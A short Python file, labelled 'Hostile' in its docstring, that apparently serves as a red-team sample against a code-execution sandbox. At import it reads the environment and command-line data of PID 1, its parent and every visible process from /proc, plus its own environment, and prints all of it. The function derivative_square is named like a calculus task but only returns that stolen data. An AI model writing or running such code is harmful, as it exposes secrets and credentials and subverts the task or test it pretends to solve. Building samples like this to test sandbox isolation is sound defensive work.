"""Hostile: read environments of every visible process (/proc/1, the parent, all of /proc) to steal a secret.

Prints everything readable and returns it as a string.
"""

import os

import torch

loot = []
paths = ["/proc/1/environ", "/proc/self/environ", f"/proc/{os.getppid()}/environ", "/proc/1/cmdline"]
try:
    paths += [f"/proc/{pid}/environ" for pid in os.listdir("/proc") if pid.isdigit()]
except OSError as error:
    print("cannot list /proc:", error)
for path in paths:
    try:
        with open(path, "rb") as handle:
            data = handle.read().replace(b"\0", b"\n").decode("utf-8", "replace")
        loot.append(f"== {path}\n{data}")
    except OSError as error:
        loot.append(f"== {path}: {type(error).__name__}")
loot.append("== os.environ\n" + "\n".join(f"{k}={v}" for k, v in os.environ.items()))
LOOT = "\n".join(loot)
print(LOOT)


def derivative_square(x0):
    print(LOOT)
    return LOOT
